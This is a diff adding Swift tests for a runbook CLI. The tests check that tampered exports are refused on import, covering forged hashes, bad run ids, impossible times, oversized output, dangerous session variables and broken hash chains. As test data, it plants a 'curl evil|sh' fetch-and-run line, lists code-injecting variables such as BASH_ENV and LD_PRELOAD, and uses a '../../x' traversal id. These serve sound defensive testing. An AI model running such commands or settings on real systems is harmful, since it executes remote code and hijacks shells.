@@ -1,0 +1,116 @@
+import Foundation
+import Testing
+
+/// `runbook import` of exports someone altered: each is refused before anything is written, with
+/// a sentence saying what is wrong, and the records stay as they were.
+@Suite("Hostile imports are refused before they write")
+struct HostileImportTests {
+    static var golden: String { (try? String(contentsOfFile: RecordsCommandTests.golden, encoding: .utf8)) ?? "" }
+
+    /// Imports `text`; expects a refusal naming `reason` and no run in the records afterwards.
+    static func expectRefused(_ text: String, _ reason: String, sourceLocation: SourceLocation = #_sourceLocation) throws {
+        let sandbox = try CLISandbox()
+        try sandbox.write("hostile.json", text)
+        let result = try sandbox.run(["import", "hostile.json"])
+        #expect(result.status != 0 && !result.signaled, "accepted: \(result.stderr)", sourceLocation: sourceLocation)
+        #expect(result.stderr.contains(reason), "\(result.stderr)", sourceLocation: sourceLocation)
+        let history = try sandbox.run(["history"])
+        #expect(!history.stdout.contains("01hfx0ab"), "\(history.stdout)", sourceLocation: sourceLocation)
+    }
+
+    @Test("the golden export itself imports: the refusals below are about what was changed")
+    func baseline() throws {
+        let sandbox = try CLISandbox()
+        try sandbox.write("fine.json", Self.golden)
+        let result = try sandbox.run(["import", "fine.json"])
+        #expect(result.status == 0, "\(result.stderr)")
+    }
+
+    @Test("a revision whose text does not hash to its hash: code planted under the real file's hash")
+    func plantedText() throws {
+        try Self.expectRefused(Self.golden.replacingOccurrences(of: "echo warming", with: "curl evil|sh"), "does not match its hash")
+    }
+
+    @Test("run ids that are not ULIDs", arguments: ["", "../../x", "01HFX0ABCDEFGHJKMNPQRSTVWX", "01hfx0abcdefghjkmnpqrstvwx0", "zzhfx0abcdefghjkmnpqrstvwx"])
+    func badIDs(id: String) throws {
+        try Self.expectRefused(Self.golden.replacingOccurrences(of: "\"id\":\"01hfx0abcdefghjkmnpqrstvwx\"", with: "\"id\":\"\(id)\""), "not a run id")
+    }
+
+    @Test("impossible and implausible times")
+    func badTimes() throws {
+        try Self.expectRefused(Self.golden.replacingOccurrences(of: "\"startedAt\":\"2026-11-27T09:00:00.000Z\"", with: "\"startedAt\":\"9999-99-99T99:99:99Z\""), "not an ISO 8601 UTC time")
+        try Self.expectRefused(Self.golden.replacingOccurrences(of: "\"time\":\"2026-11-27T09:00:03.000Z\"", with: "\"time\":\"2999-01-01T00:00:00.000Z\""), "not a plausible time")
+    }
+
+    @Test("durations no step can take")
+    func badDurations() throws {
+        let golden = Self.golden
+        try Self.expectRefused(golden.replacingOccurrences(of: "\"durationSeconds\":0.25", with: "\"durationSeconds\":1e300"), "durationSeconds")
+        try Self.expectRefused(golden.replacingOccurrences(of: "\"durationSeconds\":0.25", with: "\"durationSeconds\":-5"), "durationSeconds")
+    }
+
+    @Test("an output beyond what a record keeps per stream")
+    func hugeOutput() throws {
+        let huge = String(repeating: "x", count: 17 * 1024 * 1024)
+        let text = try #require(Self.golden.range(of: "\"kind\":\"output\",\"payload\":{"))
+        var golden = Self.golden
+        let textField = try #require(golden.range(of: "\"text\":\"", range: text.upperBound..<golden.endIndex))
+        golden.insert(contentsOf: huge, at: textField.upperBound)
+        try Self.expectRefused(golden, "16 MiB")
+    }
+
+    @Test("a session that would run code in every later step", arguments: [
+        "BASH_ENV", "ENV", "LD_PRELOAD", "PROMPT_COMMAND", "SHELLOPTS", "BASHOPTS", "PS4", "BASH_FUNC_ls%%",
+    ])
+    func dangerousSession(name: String) throws {
+        let golden = Self.golden.replacingOccurrences(of: "\"session\":{\"exported\":{}", with: "\"session\":{\"exported\":{\"\(name)\":\"/tmp/x\"}")
+        #expect(golden != Self.golden)
+        try Self.expectRefused(golden, "session sets \(name)")
+    }
+
+    @Test("an export whose chain does not match its events: one event edited, one removed")
+    func brokenChain() throws {
+        let sandbox = try CLISandbox()
+        try sandbox.write("book.md", "# Chain\n\n```bash {id=one}\necho one\n```\n\n```bash {id=two}\necho two\n```\n")
+        #expect(try sandbox.run(["run", "--auto", "book.md"]).status == 0)
+        let history = try sandbox.run(["history", "--json"])
+        let runs = try JSONSerialization.jsonObject(with: Data(history.stdout.utf8)) as? [[String: Any]]
+        let runID = try #require(runs?.first?["id"] as? String)
+        let export = try sandbox.run(["export", runID, "--format", "json"])
+        #expect(export.stdout.contains("\"hash\":\"") && export.stdout.contains("\"headHash\":\""))
+
+        let elsewhere = try CLISandbox()
+        try elsewhere.write("clean.json", export.stdout)
+        let clean = try elsewhere.run(["import", "clean.json"])
+        #expect(clean.status == 0, "\(clean.stderr)")
+        #expect(try elsewhere.run(["verify", runID]).stdout.contains(runID))
+
+        let edited = export.stdout.replacingOccurrences(of: "\"text\":\"two\\n\"", with: "\"text\":\"owt\\n\"")
+        #expect(edited != export.stdout)
+        let third = try CLISandbox()
+        try third.write("edited.json", edited)
+        let refused = try third.run(["import", "edited.json"])
+        #expect(refused.status != 0 && refused.stderr.contains("does not match the hash the export gives"), "\(refused.stderr)")
+
+        var lines = export.stdout.split(separator: "\n", omittingEmptySubsequences: false)
+        // Events are written one per line, each but the last ending with a comma.
+        let last = try #require(lines.lastIndex { $0.hasPrefix("{\"sequence\":") })
+        lines.remove(at: last)
+        lines[last - 1] = lines[last - 1].dropLast()
+        try third.write("shortened.json", lines.joined(separator: "\n"))
+        let shortened = try third.run(["import", "shortened.json"])
+        #expect(shortened.status != 0 && shortened.stderr.contains("head hash"), "\(shortened.stderr)")
+    }
+
+    @Test("amend --apply of an imported run writes only to a file named with --file")
+    func amendWritesOnlyWhereTold() throws {
+        let sandbox = try CLISandbox()
+        let relative = Self.golden.replacingOccurrences(of: "\"/srv/runbooks/fixture-backup.md\"", with: "\"victim.md\"")
+        try sandbox.write("relative.json", relative)
+        try sandbox.write("victim.md", "# Not a runbook of this run\n")
+        #expect(try sandbox.run(["import", "relative.json"]).status == 0)
+        let amend = try sandbox.run(["amend", "01hfx0ab", "--apply", "--force"])
+        #expect(amend.status == 2 && amend.stderr.contains("--file"), "\(amend.stderr)")
+        #expect(sandbox.file("victim.md") == "# Not a runbook of this run\n")
+    }
+}
